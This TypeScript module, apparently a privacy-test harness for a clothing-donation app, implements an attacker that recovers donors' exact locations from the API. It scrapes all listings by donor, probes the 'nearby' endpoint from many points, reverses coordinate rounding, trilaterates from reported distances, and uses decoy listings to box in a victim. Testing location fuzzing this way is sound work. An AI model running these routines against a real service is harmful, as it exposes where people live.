import {
  findArea,
  distanceInMiles,
  donationsSchema,
  type Donation,
  type Position,
} from '@clothesline/api-client/contract';

const metersPerMile = 1609.344;

/** Deterministic random numbers (mulberry32). */
export function dice(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

export function metersBetween(one: Position, other: Position): number {
  return distanceInMiles(one, other) * metersPerMile;
}

export function median(values: readonly number[]): number {
  const sorted = values.toSorted((one, other) => one - other);
  return sorted[Math.floor(sorted.length / 2)] ?? Number.NaN;
}

export function moved({ latitude, longitude }: Position, north: number, east: number): Position {
  return {
    latitude: latitude + north / 111_195,
    longitude: longitude + east / (111_195 * Math.cos((latitude * Math.PI) / 180)),
  };
}

/** An attacker who derives exact positions from the server's responses and source code. */
export function createAttacker(host: string) {
  const ask = async (path: string): Promise<Donation[]> =>
    donationsSchema.parse(await (await fetch(host + path)).json());
  const near = ({ latitude, longitude }: Position) =>
    ask(`/api/donations/nearby?lat=${latitude.toFixed(7)}&lng=${longitude.toFixed(7)}&limit=200`);

  return {
    async byDonor(): Promise<Map<number, Donation[]>> {
      const all: Donation[] = [];
      for (let cursor = ''; ;) {
        const page = await ask(`/api/donations?limit=200${cursor}`);
        all.push(...page);
        const last = page.at(-1);
        if (!last || page.length < 200) return Map.groupBy(all, ({ userId }) => userId);
        cursor = `&cursor=${last.id}`;
      }
    },

    /** Calls "nearby" from many positions. */
    async probe(positions: readonly Position[]): Promise<Probe[]> {
      const probes: Probe[] = [];
      for (const position of positions) probes.push({ position, found: await near(position) });
      return probes;
    },
  };
}

export interface Probe {
  position: Position;
  found: readonly Donation[];
}

/** Reverses the rounding if possible. */
export function inverted(listings: readonly Donation[]): Position | undefined {
  const [listing] = listings;
  if (!listing) return undefined;
  return listing.areaMeters ? findArea(listing, listing.areaMeters).center : listing;
}

export function averaged(listings: readonly Position[]): Position {
  const mean = (values: readonly number[]) => values.reduce((sum, value) => sum + value, 0) / values.length;
  return {
    latitude: mean(listings.map(({ latitude }) => latitude)),
    longitude: mean(listings.map((one) => one.longitude)),
  };
}

/** Trilateration on a grid that is refined repeatedly. */
export function trilaterated(probes: readonly Probe[], userId: number, start: Position): Position {
  const circles = probes.flatMap(({ position, found }) => {
    const distance = found.find((one) => one.userId === userId)?.distance;
    return distance === undefined || distance === null ? [] : [{ position, meters: distance * metersPerMile }];
  });
  const misfit = (at: Position) =>
    circles.reduce((sum, { position, meters }) => sum + (metersBetween(at, position) - meters) ** 2, 0);
  return refined(start, misfit);
}

/** Compares the order of the attacker's own listings with the victim's. */
export function boxed(
  probes: readonly Probe[],
  userId: number,
  decoys: ReadonlyMap<number, Position>,
  start: Position,
): Position {
  const orders = probes.flatMap(({ position, found }) => {
    const rank = found.findIndex((one) => one.userId === userId);
    return found.flatMap(({ userId: other }, at) => {
      const decoy = decoys.get(other);
      return decoy ? [{ position, decoy, isNearer: rank < at }] : [];
    });
  });
  const misfit = (at: Position) =>
    orders.reduce((sum, { position, decoy, isNearer }) => {
      const lead = metersBetween(decoy, position) - metersBetween(at, position);
      return sum + (isNearer ? Math.max(0, -lead) : Math.max(0, lead)) ** 2;
    }, 0);
  return refined(start, misfit);
}

function refined(start: Position, misfit: (at: Position) => number): Position {
  let best = start;
  for (let step = 1500; step > 1; step *= 0.6) {
    const tries = [-1, 0, 1].flatMap((north) => [-1, 0, 1].map((east) => moved(best, north * step, east * step)));
    const sums = tries.map(misfit);
    best = tries[sums.indexOf(Math.min(...sums))] ?? best;
  }
  return best;
}
